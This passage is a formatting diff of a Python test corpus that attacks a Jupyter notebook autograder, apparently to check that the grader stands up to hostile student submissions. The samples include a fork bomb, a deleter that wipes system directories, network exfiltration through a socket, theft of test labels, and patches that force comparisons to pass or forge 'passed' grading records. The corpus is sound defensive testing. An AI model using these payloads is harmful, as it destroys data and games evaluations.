@@ -11,6 +11,7 @@ The functions of 02_activations: relu, relu_grad, leaky_relu, softmax stand
 alone; sigmoid_grad is built on sigmoid. Attacks aim at the stand-alone
 ones, so that exactly their points are lost.
 """
+
 from __future__ import annotations
 
 import copy
@@ -33,16 +34,16 @@ ALL = ("*",)  # every grade cell
 class Attack:
     name: str
     why: str
-    build: Callable[[Path], Path]   # writes the submission under a folder; returns its path
-    lost: tuple[str, ...]           # functions whose grade cells score 0 (ALL: all of them)
-    message: tuple[str, ...]        # the report names the cause with one of these
+    build: Callable[[Path], Path]  # writes the submission under a folder; returns its path
+    lost: tuple[str, ...]  # functions whose grade cells score 0 (ALL: all of them)
+    message: tuple[str, ...]  # the report names the cause with one of these
     assignment: str = A
-    dangerous: bool = False         # could leave damage behind: grade a correct submission right after
-    absent: tuple[str, ...] = ()    # must not appear in what the student sees of the grade cells
+    dangerous: bool = False  # could leave damage behind: grade a correct submission right after
+    absent: tuple[str, ...] = ()  # must not appear in what the student sees of the grade cells
     # Seconds per probed call (the exercises allow 10; the corpus is in a hurry). A wall-clock
     # limit: at 1 s, a call that was merely descheduled on a loaded machine timed out.
     call_timeout: float = 3.0
-    cell_timeout: float = 5.0       # seconds per notebook cell
+    cell_timeout: float = 5.0  # seconds per notebook cell
 
 
 # ------------------------------------------------------------------ builders
@@ -75,6 +76,7 @@ def _raw_file(content: bytes, name: str = f"{A}.ipynb"):
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_bytes(content)
         return path
+
     return build
 
 
@@ -85,6 +87,7 @@ def _cells(notebook, *ids):
 def _delete(*ids):
     def change(notebook):
         notebook.cells = [c for c in notebook.cells if grade_id(c) not in ids]
+
     return change
 
 
@@ -135,15 +138,17 @@ def _hard_coded_relu() -> str:
     for index, _ in exercise.public():
         (z,), _ = exercise.inputs(index)
         table[(z.shape, str(z.dtype), tuple(np.ravel(z).tolist()))] = np.ravel(exercise.expected(index)).tolist()
-    return ("TABLE = " + repr(table) + "\n"
-            "def relu(z):\n"
-            "    key = (z.shape, str(z.dtype), tuple(np.ravel(z).tolist()))\n"
-            "    return np.array(TABLE.get(key, np.zeros(z.size).tolist()), dtype=z.dtype).reshape(z.shape)\n")
+    return (
+        "TABLE = " + repr(table) + "\n"
+        "def relu(z):\n"
+        "    key = (z.shape, str(z.dtype), tuple(np.ravel(z).tolist()))\n"
+        "    return np.array(TABLE.get(key, np.zeros(z.size).tolist()), dtype=z.dtype).reshape(z.shape)\n"
+    )
 
 
 # A background thread that keeps writing records into the grader's outbox:
 # "passed" results for every call, and the probe's combined files.
-FORGER = r'''
+FORGER = r"""
 import json, os, threading, time
 import numpy as np
 
@@ -164,7 +169,8 @@ def forge():
         time.sleep(0.01)
 
 threading.Thread(target=forge, daemon=True).start()
-'''
+"""
+
 
 def _forger_notebook():
     """The untouched release (no work at all) plus the forger."""
@@ -216,7 +222,9 @@ def forged(plan, inputs, key, nonce):
 # The issue's first forger: a thread started by an extra cell waits for the plan, computes every answer,
 # pre-creates the records with the probe's nonce (read from the probe's constants), and takes away the
 # probe's write access to the outbox.
-THREAD_FORGER = ANSWERS + """
+THREAD_FORGER = (
+    ANSWERS
+    + """
 import json, os, threading, time
 def forge():
     for _ in range(20000):
@@ -247,10 +255,13 @@ def forge():
         return
 threading.Thread(target=forge, daemon=True).start()
 """
+)
 
 # The issue's second forger: the probe's own tools, patched. Every record the kernel publishes
 # (os.replace of KEY.json) is rewritten with the right answer, keeping the record's own nonce.
-TOOL_PATCHER = ANSWERS + """
+TOOL_PATCHER = (
+    ANSWERS
+    + """
 import json, os
 _replace = os.replace
 def replace(source, destination, *args, **kwargs):
@@ -272,11 +283,12 @@ def replace(source, destination, *args, **kwargs):
     return _replace(source, destination, *args, **kwargs)
 os.replace = replace
 """
+)
 
 # relu is right, and each call also tries to reach the grader's other calls: forged frames into every
 # descriptor of its parent (the caller), forged definitions in the exchange folder, a module planted
 # where a later call could import it, and a process left behind.
-CALL_FORGER = '''import os
+CALL_FORGER = """import os
 def relu(z):
     frame = bytes([0, 0, 0, 16]) + b'{"done": 1}     '
     parent = os.getppid()
@@ -304,18 +316,18 @@ def relu(z):
         time.sleep(30)
         os._exit(0)
     return np.maximum(z, 0)
-'''
+"""
 
-KILL_THE_CALLER = '''import os, signal
+KILL_THE_CALLER = """import os, signal
 def relu_grad(z):
     os.kill(os.getppid(), signal.SIGKILL)
     return (z > 0).astype(z.dtype)
-'''
+"""
 
-THROW_AWAY_SPY = '''def and_gate(x1, x2):
+THROW_AWAY_SPY = """def and_gate(x1, x2):
     perceptron(np.stack([x1, x2], axis=1), np.array([1.0, 1.0]), -1.5)  # called, and thrown away
     return ((x1 == 1) & (x2 == 1)).astype(np.float64)
-'''
+"""
 
 
 def _untouched_plus(code: str):
@@ -335,7 +347,7 @@ def _work_plus(code: str):
 
 # The stability check switched off from a cell: numpy's and Python's warning tools made silent, so the
 # probe (which ran in the same interpreter) caught no overflow from a naive sigmoid.
-SILENCE_WARNINGS = '''import warnings
+SILENCE_WARNINGS = """import warnings
 class _Quiet:
     def __init__(self, *args, **kwargs):
         pass
@@ -348,39 +360,39 @@ np.errstate = _Quiet
 warnings.catch_warnings = _Quiet
 np.seterr(all="ignore")
 warnings.simplefilter("ignore")
-'''
+"""
 
 
-SWALLOWING_LOOP = '''
+SWALLOWING_LOOP = """
     while True:
         try:
             while True:
                 pass
         except BaseException:
             pass
-'''
+"""
 
-FORK_BOMB = '''import os, time
+FORK_BOMB = """import os, time
 while True:
     if os.fork() == 0:
         time.sleep(600)
         os._exit(0)
-'''
+"""
 
-DELETER = '''import os, shutil, sys
+DELETER = """import os, shutil, sys
 for target in ["/work", "/grader", "/tmp", "/usr/lib", "/etc"]:
     shutil.rmtree(target, ignore_errors=True)
 os.remove(sys.executable)
-'''
+"""
 
-NETWORK = '''import socket
+NETWORK = """import socket
 def leaky_relu(z, alpha=0.01):
     with socket.create_connection(("1.1.1.1", 443), timeout=3) as connection:
         connection.sendall(z.tobytes())
     return np.where(z > 0, z, alpha * z)
-'''
+"""
 
-STEAL_LABELS = '''from autograder import data
+STEAL_LABELS = """from autograder import data
 try:
     labels = data.load_labels("test")   # what the judge holds
 except Exception as error:
@@ -390,19 +402,20 @@ def relu(z):
     for folder in ["/grader/data", "/work/main/datasets/fashion-mnist", "/usr/share/datasets/fashion-mnist"]:
         with open(folder + "/t10k-labels-idx1-ubyte.gz", "rb") as labels:
             return labels.read()
-'''
+"""
 
-STEAL_SOURCE = '''import json, os
+STEAL_SOURCE = """import json, os
 def softmax(z):
     for path in ["/work/main/source/02_activations/02_activations.ipynb", "source/02_activations/02_activations.ipynb"]:
         if os.path.exists(path):
             notebook = json.load(open(path))
-            exec("".join(next(c["source"] for c in notebook["cells"] if "def softmax" in "".join(c["source"]))), globals())
+            cells = notebook["cells"]
+            exec("".join(next(c["source"] for c in cells if "def softmax" in "".join(c["source"]))), globals())
             return globals()["softmax"](z)
     return open("/work/main/source/02_activations/02_activations.ipynb").read()
-'''
+"""
 
-STEAL_REFERENCE = '''import importlib.util
+STEAL_REFERENCE = """import importlib.util
 def relu_grad(z):
     try:
         from autograder.judge.exercises.a02_activations import relu_grad as exercise
@@ -412,24 +425,24 @@ def relu_grad(z):
         spec.loader.exec_module(module)
         exercise = module.relu_grad
     return exercise.reference(z)
-'''
+"""
 
-PATCH_TORCH = '''import torch
+PATCH_TORCH = """import torch
 torch.allclose = lambda *args, **kwargs: True
 torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
 torch.testing.assert_close = lambda *args, **kwargs: None
 torch.softmax = lambda z, dim=-1: z
 torch.Tensor.__eq__ = lambda self, other: True
-'''
+"""
 
-PATCH_NUMPY = '''np.allclose = lambda *args, **kwargs: True
+PATCH_NUMPY = """np.allclose = lambda *args, **kwargs: True
 np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
 np.array_equal = lambda *args, **kwargs: True
 np.testing.assert_allclose = lambda *args, **kwargs: None
 np.testing.assert_array_equal = lambda *args, **kwargs: None
-'''
+"""
 
-PATCH_BUILTINS = '''import builtins
+PATCH_BUILTINS = """import builtins
 builtins.all = lambda iterable: True
 builtins.any = lambda iterable: True
 builtins.abs = lambda x: 0
@@ -437,163 +450,402 @@ builtins.round = lambda x, *args: 0
 builtins.AssertionError = type("AssertionError", (Exception,), {})
 def assert_close(*args, **kwargs):
     return True
-'''
+"""
+
 
 def _leaky_relu_source() -> str:
     """relu, right on the public cases, raising on the others an exception named after the input."""
-    return _hard_coded_relu() + '''
+    return (
+        _hard_coded_relu()
+        + """
 def relu(z, _table_relu=relu):
     key = (z.shape, str(z.dtype), tuple(np.ravel(z).tolist()))
     if key in TABLE:
         return _table_relu(z)
     name = "Leak_" + "_".join(str(abs(int(v * 1000))) for v in np.ravel(z)[:8])
     raise type(name, (Exception,), {})("the input was " + repr(z.tolist()))
-'''
+"""
+    )
+
 
 ATTACKS = [
     # ------------------------------------------------------------ exits
-    Attack("sys_exit_in_a_cell", "sys.exit() at the top of a solution cell: the cell stops, the kernel lives",
-           _save(answers(relu="import sys\nsys.exit()\n" + samples.reference_answers(A)["relu"])),
-           ("relu",), ("SystemExit",)),
-    Attack("os_exit_in_a_cell", "os._exit(0) in a solution cell ends the kernel: restart, skip that cell",
-           _save(answers(leaky_relu="import os\nos._exit(0)\n")), ("leaky_relu",), ("ended the kernel",),
-           dangerous=True),
-    Attack("os_exit_in_a_function", "relu ends the kernel when called: relu alone is charged, the rest graded",
-           _save(answers(relu="import os\ndef relu(z):\n    os._exit(0)\n")), ("relu",),
-           ("the call ended the process it ran in",), dangerous=True),
-    Attack("sys_exit_in_a_function", "the exit code is nothing: SystemExit from a call is an error",
-           _save(answers(relu_grad="import sys\ndef relu_grad(z):\n    sys.exit(0)\n")), ("relu_grad",),
-           ("SystemExit",)),
-    Attack("keyboard_interrupt_from_a_function", "a KeyboardInterrupt escapes the probe: only its function pays",
-           _save(answers(relu_grad="def relu_grad(z):\n    raise KeyboardInterrupt\n")), ("relu_grad",),
-           ("KeyboardInterrupt",), dangerous=True),
+    Attack(
+        "sys_exit_in_a_cell",
+        "sys.exit() at the top of a solution cell: the cell stops, the kernel lives",
+        _save(answers(relu="import sys\nsys.exit()\n" + samples.reference_answers(A)["relu"])),
+        ("relu",),
+        ("SystemExit",),
+    ),
+    Attack(
+        "os_exit_in_a_cell",
+        "os._exit(0) in a solution cell ends the kernel: restart, skip that cell",
+        _save(answers(leaky_relu="import os\nos._exit(0)\n")),
+        ("leaky_relu",),
+        ("ended the kernel",),
+        dangerous=True,
+    ),
+    Attack(
+        "os_exit_in_a_function",
+        "relu ends the kernel when called: relu alone is charged, the rest graded",
+        _save(answers(relu="import os\ndef relu(z):\n    os._exit(0)\n")),
+        ("relu",),
+        ("the call ended the process it ran in",),
+        dangerous=True,
+    ),
+    Attack(
+        "sys_exit_in_a_function",
+        "the exit code is nothing: SystemExit from a call is an error",
+        _save(answers(relu_grad="import sys\ndef relu_grad(z):\n    sys.exit(0)\n")),
+        ("relu_grad",),
+        ("SystemExit",),
+    ),
+    Attack(
+        "keyboard_interrupt_from_a_function",
+        "a KeyboardInterrupt escapes the probe: only its function pays",
+        _save(answers(relu_grad="def relu_grad(z):\n    raise KeyboardInterrupt\n")),
+        ("relu_grad",),
+        ("KeyboardInterrupt",),
+        dangerous=True,
+    ),
     # ------------------------------------------------------------ loops
-    Attack("infinite_loop_in_a_function", "the probe's timer stops it",
-           _save(answers(relu_grad="def relu_grad(z):\n    while True:\n        pass\n")), ("relu_grad",),
-           ("did not return within",)),
-    Attack("infinite_loop_swallowing_the_timer", "a bare except swallows every timer: the grader kills the kernel",
-           _save(answers(leaky_relu="def leaky_relu(z, alpha=0.01):" + SWALLOWING_LOOP)), ("leaky_relu",),
-           ("ignored the time limit",), dangerous=True),
-    Attack("infinite_loop_in_a_cell", "interrupted at the cell limit; the rest runs",
-           _save(with_cell("while True:\n    pass\n")), (), ("ran longer than",)),
-    Attack("infinite_loop_in_a_cell_ignoring_interrupts", "not interruptible: kill, restart, skip the cell",
-           _save(with_cell("while True:\n    try:\n        while True:\n            pass\n"
-                           "    except BaseException:\n        pass\n")), (),
-           ("did not stop when interrupted",), dangerous=True),
+    Attack(
+        "infinite_loop_in_a_function",
+        "the probe's timer stops it",
+        _save(answers(relu_grad="def relu_grad(z):\n    while True:\n        pass\n")),
+        ("relu_grad",),
+        ("did not return within",),
+    ),
+    Attack(
+        "infinite_loop_swallowing_the_timer",
+        "a bare except swallows every timer: the grader kills the kernel",
+        _save(answers(leaky_relu="def leaky_relu(z, alpha=0.01):" + SWALLOWING_LOOP)),
+        ("leaky_relu",),
+        ("ignored the time limit",),
+        dangerous=True,
+    ),
+    Attack(
+        "infinite_loop_in_a_cell",
+        "interrupted at the cell limit; the rest runs",
+        _save(with_cell("while True:\n    pass\n")),
+        (),
+        ("ran longer than",),
+    ),
+    Attack(
+        "infinite_loop_in_a_cell_ignoring_interrupts",
+        "not interruptible: kill, restart, skip the cell",
+        _save(
+            with_cell(
+                "while True:\n    try:\n        while True:\n            pass\n"
+                "    except BaseException:\n        pass\n"
+            )
+        ),
+        (),
+        ("did not stop when interrupted",),
+        dangerous=True,
+    ),
     # ------------------------------------------------------------ resources
-    Attack("allocate_50_gb_in_a_cell", "the memory limit refuses it", _save(with_cell(
-        "import numpy as np\nhuge = np.ones(50 * 2**30 // 8)\n")), (), ("MemoryError",), dangerous=True),
-    Attack("memory_bomb_in_a_function", "fills memory chunk by chunk until the limit stops it",
-           _save(answers(softmax="def softmax(z):\n    chunks = []\n    while True:\n"
-                                 "        chunks.append(np.ones(2**27))\n")), ("softmax",),
-           ("MemoryError",), dangerous=True, call_timeout=20),
-    Attack("fork_bomb", "bounded by the process limit; everything dies with the sandbox",
-           _save(with_cell(FORK_BOMB)), (), ("BlockingIOError", "Resource temporarily unavailable"), dangerous=True),
-    Attack("print_1_gb", "one huge message: zmq refuses it, the grader never holds it",
-           _save(with_cell('print("x" * 2**30)\n')), (), ("so that output was dropped",), dangerous=True,
-           cell_timeout=60),
-    Attack("print_in_a_loop", "many smaller messages: past the cap they are dropped",
-           _save(with_cell('import time\nfor _ in range(400):\n    print("y" * 10_000)\n    time.sleep(0.002)\n')),
-           (), ("output was dropped",)),
+    Attack(
+        "allocate_50_gb_in_a_cell",
+        "the memory limit refuses it",
+        _save(with_cell("import numpy as np\nhuge = np.ones(50 * 2**30 // 8)\n")),
+        (),
+        ("MemoryError",),
+        dangerous=True,
+    ),
+    Attack(
+        "memory_bomb_in_a_function",
+        "fills memory chunk by chunk until the limit stops it",
+        _save(
+            answers(
+                softmax="def softmax(z):\n    chunks = []\n    while True:\n        chunks.append(np.ones(2**27))\n"
+            )
+        ),
+        ("softmax",),
+        ("MemoryError",),
+        dangerous=True,
+        call_timeout=20,
+    ),
+    Attack(
+        "fork_bomb",
+        "bounded by the process limit; everything dies with the sandbox",
+        _save(with_cell(FORK_BOMB)),
+        (),
+        ("BlockingIOError", "Resource temporarily unavailable"),
+        dangerous=True,
+    ),
+    Attack(
+        "print_1_gb",
+        "one huge message: zmq refuses it, the grader never holds it",
+        _save(with_cell('print("x" * 2**30)\n')),
+        (),
+        ("so that output was dropped",),
+        dangerous=True,
+        cell_timeout=60,
+    ),
+    Attack(
+        "print_in_a_loop",
+        "many smaller messages: past the cap they are dropped",
+        _save(with_cell('import time\nfor _ in range(400):\n    print("y" * 10_000)\n    time.sleep(0.002)\n')),
+        (),
+        ("output was dropped",),
+    ),
     # ------------------------------------------------------------ tampering with the checks
-    Attack("redefine_check", "a check that always passes, and a wrong relu",
-           _save(with_cell('check = lambda *args, **kwargs: print("all checks passed")\n',
-                           relu="def relu(z):\n    return z\n")), ("relu",), ("wrong values", "expected")),
-    Attack("patch_assert_helpers_and_builtins", "builtins and assert helpers patched, and a wrong relu",
-           _save(with_cell(PATCH_BUILTINS, after="test_softmax", relu="def relu(z):\n    return np.abs(z)\n")),
-           ("relu",),
-           ("relu(z)",)),
-    Attack("patch_numpy_comparisons", "np.allclose & co always true, and a wrong softmax",
-           _save(with_cell(PATCH_NUMPY, softmax="def softmax(z):\n    return np.exp(z) / np.exp(z).sum()\n")),
-           ("softmax",), ("softmax(z)",)),
-    Attack("monkeypatch_torch", "torch's comparisons and softmax patched, and a softmax built on the patch: "
-           "a numpy lesson has no torch at all (torch is the judge's reference)",
-           _save(with_cell(PATCH_TORCH, softmax="import torch\ndef softmax(z):\n"
-                                                 "    return torch.softmax(torch.from_numpy(z), dim=-1).numpy()\n")),
-           ("softmax",), ("torch is not available in this lesson",)),
-    Attack("forge_the_outbox", "a thread writes 'passed' records, never the real work: nothing is earned",
-           _save(_forger_notebook()), ALL, ("not implemented yet", "no result the grader can trust"), dangerous=True),
-    Attack("hard_coded_public_answers", "passes the public cases, fails the hidden ones",
-           _save(answers(relu=_hard_coded_relu())), ("relu",), ("failed a hidden case (",)),
-    Attack("exfiltrate_hidden_inputs_by_exception_name", "the class name carries the input; the report drops it",
-           _save(answers(relu=_leaky_relu_source())), ("relu",), ("raised an exception on a hidden case",),
-           absent=("Leak_", "the input was")),
+    Attack(
+        "redefine_check",
+        "a check that always passes, and a wrong relu",
+        _save(
+            with_cell(
+                'check = lambda *args, **kwargs: print("all checks passed")\n', relu="def relu(z):\n    return z\n"
+            )
+        ),
+        ("relu",),
+        ("wrong values", "expected"),
+    ),
+    Attack(
+        "patch_assert_helpers_and_builtins",
+        "builtins and assert helpers patched, and a wrong relu",
+        _save(with_cell(PATCH_BUILTINS, after="test_softmax", relu="def relu(z):\n    return np.abs(z)\n")),
+        ("relu",),
+        ("relu(z)",),
+    ),
+    Attack(
+        "patch_numpy_comparisons",
+        "np.allclose & co always true, and a wrong softmax",
+        _save(with_cell(PATCH_NUMPY, softmax="def softmax(z):\n    return np.exp(z) / np.exp(z).sum()\n")),
+        ("softmax",),
+        ("softmax(z)",),
+    ),
+    Attack(
+        "monkeypatch_torch",
+        "torch's comparisons and softmax patched, and a softmax built on the patch: "
+        "a numpy lesson has no torch at all (torch is the judge's reference)",
+        _save(
+            with_cell(
+                PATCH_TORCH,
+                softmax="import torch\ndef softmax(z):\n"
+                "    return torch.softmax(torch.from_numpy(z), dim=-1).numpy()\n",
+            )
+        ),
+        ("softmax",),
+        ("torch is not available in this lesson",),
+    ),
+    Attack(
+        "forge_the_outbox",
+        "a thread writes 'passed' records, never the real work: nothing is earned",
+        _save(_forger_notebook()),
+        ALL,
+        ("not implemented yet", "no result the grader can trust"),
+        dangerous=True,
+    ),
+    Attack(
+        "hard_coded_public_answers",
+        "passes the public cases, fails the hidden ones",
+        _save(answers(relu=_hard_coded_relu())),
+        ("relu",),
+        ("failed a hidden case (",),
+    ),
+    Attack(
+        "exfiltrate_hidden_inputs_by_exception_name",
+        "the class name carries the input; the report drops it",
+        _save(answers(relu=_leaky_relu_source())),
+        ("relu",),
+        ("raised an exception on a hidden case",),
+        absent=("Leak_", "the input was"),
+    ),
     # ------------------------------------------------------------ reaching outside
-    Attack("read_the_test_labels", "the labels are not in the sandbox",
-           _save(with_cell(STEAL_LABELS, relu="")), ("relu",),
-           ("FileNotFoundError: [Errno 2] No such file or directory: '/grader/data/t10k-labels",)),
-    Attack("read_source_notebook", "source/ is not in the sandbox",
-           _save(answers(softmax=STEAL_SOURCE)), ("softmax",), ("FileNotFoundError",)),
-    Attack("import_the_references", "autograder.judge.exercises is not in the sandbox",
-           _save(answers(relu_grad=STEAL_REFERENCE)), ("relu_grad",), ("FileNotFoundError",
-                                                                      "ModuleNotFoundError")),
-    Attack("open_a_network_socket", "no network in the sandbox",
-           _save(answers(leaky_relu=NETWORK)), ("leaky_relu",), ("Network is unreachable",)),
-    Attack("delete_files_outside_scratch", "the system is read-only; the repo is not even there",
-           _save(with_cell(DELETER)), (), ("Read-only file system", "Permission denied"), dangerous=True,
-           # walking /usr/lib file by file takes seconds on a cold cache: the cell must reach os.remove
-           cell_timeout=30.0),
+    Attack(
+        "read_the_test_labels",
+        "the labels are not in the sandbox",
+        _save(with_cell(STEAL_LABELS, relu="")),
+        ("relu",),
+        ("FileNotFoundError: [Errno 2] No such file or directory: '/grader/data/t10k-labels",),
+    ),
+    Attack(
+        "read_source_notebook",
+        "source/ is not in the sandbox",
+        _save(answers(softmax=STEAL_SOURCE)),
+        ("softmax",),
+        ("FileNotFoundError",),
+    ),
+    Attack(
+        "import_the_references",
+        "autograder.judge.exercises is not in the sandbox",
+        _save(answers(relu_grad=STEAL_REFERENCE)),
+        ("relu_grad",),
+        ("FileNotFoundError", "ModuleNotFoundError"),
+    ),
+    Attack(
+        "open_a_network_socket",
+        "no network in the sandbox",
+        _save(answers(leaky_relu=NETWORK)),
+        ("leaky_relu",),
+        ("Network is unreachable",),
+    ),
+    Attack(
+        "delete_files_outside_scratch",
+        "the system is read-only; the repo is not even there",
+        _save(with_cell(DELETER)),
+        (),
+        ("Read-only file system", "Permission denied"),
+        dangerous=True,
+        # walking /usr/lib file by file takes seconds on a cold cache: the cell must reach os.remove
+        cell_timeout=30.0,
+    ),
     # ------------------------------------------------------------ damaged notebooks
-    Attack("edit_locked_cells", "test cell and setup edited; they are restored, and relu is wrong",
-           _save(edited(_edit_locked, relu="def relu(z):\n    return z\n")), ("relu",),
-           ("locked cell 'test_relu' was edited",)),
-    Attack("delete_cells", "relu's solution and test cells deleted",
-           _save(edited(_delete("relu", "test_relu"))), ("relu",), ("is missing from the notebook",)),
-    Attack("duplicate_cells", "a second, wrong relu cell after the first; a locked cell twice",
-           _save(edited(_duplicate_solution_then_break)), ("relu",), ("appears 2 times",)),
-    Attack("reorder_cells", "softmax and its test moved to the end: still graded", _save(edited(_move_to_end)),
-           (), ()),
-    Attack("change_cell_types", "relu's cell made markdown, a test cell raw: run and restored",
-           _save(edited(_retype)), (), ("turned into a markdown cell",)),
-    Attack("clear_all_metadata", "every cell's metadata cleared: solutions found by their def",
-           _save(edited(_clear_metadata)), (), ("lost its nbgrader metadata",)),
-    Attack("empty_notebook", "no cells at all", _save(nbformat.v4.new_notebook()), ALL,
-           ("is missing from the notebook",)),
-    Attack("not_a_notebook", "a Python script named like the notebook",
-           _raw_file(b"def relu(z):\n    return z\n"), ALL, ("is not a Jupyter notebook",)),
+    Attack(
+        "edit_locked_cells",
+        "test cell and setup edited; they are restored, and relu is wrong",
+        _save(edited(_edit_locked, relu="def relu(z):\n    return z\n")),
+        ("relu",),
+        ("locked cell 'test_relu' was edited",),
+    ),
+    Attack(
+        "delete_cells",
+        "relu's solution and test cells deleted",
+        _save(edited(_delete("relu", "test_relu"))),
+        ("relu",),
+        ("is missing from the notebook",),
+    ),
+    Attack(
+        "duplicate_cells",
+        "a second, wrong relu cell after the first; a locked cell twice",
+        _save(edited(_duplicate_solution_then_break)),
+        ("relu",),
+        ("appears 2 times",),
+    ),
+    Attack("reorder_cells", "softmax and its test moved to the end: still graded", _save(edited(_move_to_end)), (), ()),
+    Attack(
+        "change_cell_types",
+        "relu's cell made markdown, a test cell raw: run and restored",
+        _save(edited(_retype)),
+        (),
+        ("turned into a markdown cell",),
+    ),
+    Attack(
+        "clear_all_metadata",
+        "every cell's metadata cleared: solutions found by their def",
+        _save(edited(_clear_metadata)),
+        (),
+        ("lost its nbgrader metadata",),
+    ),
+    Attack(
+        "empty_notebook", "no cells at all", _save(nbformat.v4.new_notebook()), ALL, ("is missing from the notebook",)
+    ),
+    Attack(
+        "not_a_notebook",
+        "a Python script named like the notebook",
+        _raw_file(b"def relu(z):\n    return z\n"),
+        ALL,
+        ("is not a Jupyter notebook",),
+    ),
     Attack("binary_file", "random bytes", _raw_file(bytes(range(256)) * 16), ALL, ("is not text",)),
     Attack("empty_file", "zero bytes", _raw_file(b""), ALL, ("is empty",)),
     # ------------------------------------------------------------ wrong values
-    Attack("nan_output", "NaN everywhere", _save(answers(relu="def relu(z):\n    return z * np.nan\n")),
-           ("relu",), ("nan",)),
-    Attack("inf_output", "inf everywhere",
-           _save(answers(relu_grad="def relu_grad(z):\n    return np.full_like(z, np.inf)\n")), ("relu_grad",),
-           ("inf",)),
-    Attack("wrong_dtype", "float32 out for float64 in",
-           _save(answers(leaky_relu="def leaky_relu(z, alpha=0.01):\n"
-                                    "    return np.where(z > 0, z, alpha * z).astype(np.float32)\n")),
-           ("leaky_relu",), ("dtype",)),
-    Attack("torch_in_a_numpy_lesson", "softmax computed with torch, the judge's own reference: no torch here",
-           _save(answers(softmax="import torch\ndef softmax(z):\n"
-                                 "    return torch.softmax(torch.from_numpy(z), dim=-1)\n")), ("softmax",),
-           ("torch is not available in this lesson",)),
-    Attack("the_judges_reference_from_torch", "softmax is torch's own, in float64, handed back as numpy: the "
-           "judge's reference itself, so it matched; a numpy lesson has no torch",
-           _save(answers(softmax="import torch\ndef softmax(z):\n    return torch.softmax(torch.from_numpy(z)"
-                                 ".double(), dim=-1).numpy().astype(z.dtype)\n")), ("softmax",),
-           ("torch is not available in this lesson",)),
+    Attack(
+        "nan_output",
+        "NaN everywhere",
+        _save(answers(relu="def relu(z):\n    return z * np.nan\n")),
+        ("relu",),
+        ("nan",),
+    ),
+    Attack(
+        "inf_output",
+        "inf everywhere",
+        _save(answers(relu_grad="def relu_grad(z):\n    return np.full_like(z, np.inf)\n")),
+        ("relu_grad",),
+        ("inf",),
+    ),
+    Attack(
+        "wrong_dtype",
+        "float32 out for float64 in",
+        _save(
+            answers(
+                leaky_relu="def leaky_relu(z, alpha=0.01):\n"
+                "    return np.where(z > 0, z, alpha * z).astype(np.float32)\n"
+            )
+        ),
+        ("leaky_relu",),
+        ("dtype",),
+    ),
+    Attack(
+        "torch_in_a_numpy_lesson",
+        "softmax computed with torch, the judge's own reference: no torch here",
+        _save(
+            answers(softmax="import torch\ndef softmax(z):\n    return torch.softmax(torch.from_numpy(z), dim=-1)\n")
+        ),
+        ("softmax",),
+        ("torch is not available in this lesson",),
+    ),
+    Attack(
+        "the_judges_reference_from_torch",
+        "softmax is torch's own, in float64, handed back as numpy: the "
+        "judge's reference itself, so it matched; a numpy lesson has no torch",
+        _save(
+            answers(
+                softmax="import torch\ndef softmax(z):\n    return torch.softmax(torch.from_numpy(z)"
+                ".double(), dim=-1).numpy().astype(z.dtype)\n"
+            )
+        ),
+        ("softmax",),
+        ("torch is not available in this lesson",),
+    ),
     # ------------------------------------------------------------ forging the records (issue 13)
-    Attack("forge_with_a_thread_and_the_probes_nonce", "untouched release + a thread that computes every answer, "
-           "pre-creates the records with the probe's nonce and locks the outbox: nothing is earned",
-           _save(_untouched_plus(THREAD_FORGER)), ALL, ("not implemented yet",), dangerous=True),
-    Attack("patch_the_probes_tools", "untouched release + os.replace patched to rewrite every record with the "
-           "right answer: nothing is earned", _save(_untouched_plus(TOOL_PATCHER)), ALL, ("not implemented yet",),
-           dangerous=True),
-    Attack("a_call_forges_the_other_calls", "relu is right, and each call writes forged frames into its parent's "
-           "descriptors, forged definitions, a planted module and a process left behind: only relu is earned",
-           _save(samples.student_notebook(A, {"relu": CALL_FORGER}, fill=False)),
-           ("relu_grad", "leaky_relu", "sigmoid", "sigmoid_grad", "softmax"), ("not implemented yet",),
-           dangerous=True),
-    Attack("kill_the_caller", "relu_grad kills the grader's caller process: no result of the grading is trusted",
-           _save(answers(relu_grad=KILL_THE_CALLER)), ALL, ("the grader's checks were disturbed",), dangerous=True),
-    Attack("rebind_after_the_solution_cell", "a later cell sets relu = lambda z: z: the solution cell's relu is "
-           "graded, and the report says so", _save(_work_plus("relu = lambda z: z\n")), (),
-           ("relu was defined again after its solution cell",)),
-    Attack("switch_off_the_stability_check", "warnings silenced and their tools patched from a cell, and a naive "
-           "sigmoid that overflows: each call runs in a fresh process, so the overflow is still seen",
-           _save(with_cell(SILENCE_WARNINGS, sigmoid="def sigmoid(z):\n    return 1 / (1 + np.exp(-z))\n")),
-           ("sigmoid", "sigmoid_grad"), ("overflow",)),
-    Attack("throw_away_spy_call", "and_gate calls perceptron and throws the answer away", _save(
-        answers("01_neuron", and_gate=THROW_AWAY_SPY), "01_neuron"), ("and_gate",),
-        ("must build its result from what perceptron returns",), assignment="01_neuron"),
+    Attack(
+        "forge_with_a_thread_and_the_probes_nonce",
+        "untouched release + a thread that computes every answer, "
+        "pre-creates the records with the probe's nonce and locks the outbox: nothing is earned",
+        _save(_untouched_plus(THREAD_FORGER)),
+        ALL,
+        ("not implemented yet",),
+        dangerous=True,
+    ),
+    Attack(
+        "patch_the_probes_tools",
+        "untouched release + os.replace patched to rewrite every record with the right answer: nothing is earned",
+        _save(_untouched_plus(TOOL_PATCHER)),
+        ALL,
+        ("not implemented yet",),
+        dangerous=True,
+    ),
+    Attack(
+        "a_call_forges_the_other_calls",
+        "relu is right, and each call writes forged frames into its parent's "
+        "descriptors, forged definitions, a planted module and a process left behind: only relu is earned",
+        _save(samples.student_notebook(A, {"relu": CALL_FORGER}, fill=False)),
+        ("relu_grad", "leaky_relu", "sigmoid", "sigmoid_grad", "softmax"),
+        ("not implemented yet",),
+        dangerous=True,
+    ),
+    Attack(
+        "kill_the_caller",
+        "relu_grad kills the grader's caller process: no result of the grading is trusted",
+        _save(answers(relu_grad=KILL_THE_CALLER)),
+        ALL,
+        ("the grader's checks were disturbed",),
+        dangerous=True,
+    ),
+    Attack(
+        "rebind_after_the_solution_cell",
+        "a later cell sets relu = lambda z: z: the solution cell's relu is graded, and the report says so",
+        _save(_work_plus("relu = lambda z: z\n")),
+        (),
+        ("relu was defined again after its solution cell",),
+    ),
+    Attack(
+        "switch_off_the_stability_check",
+        "warnings silenced and their tools patched from a cell, and a naive "
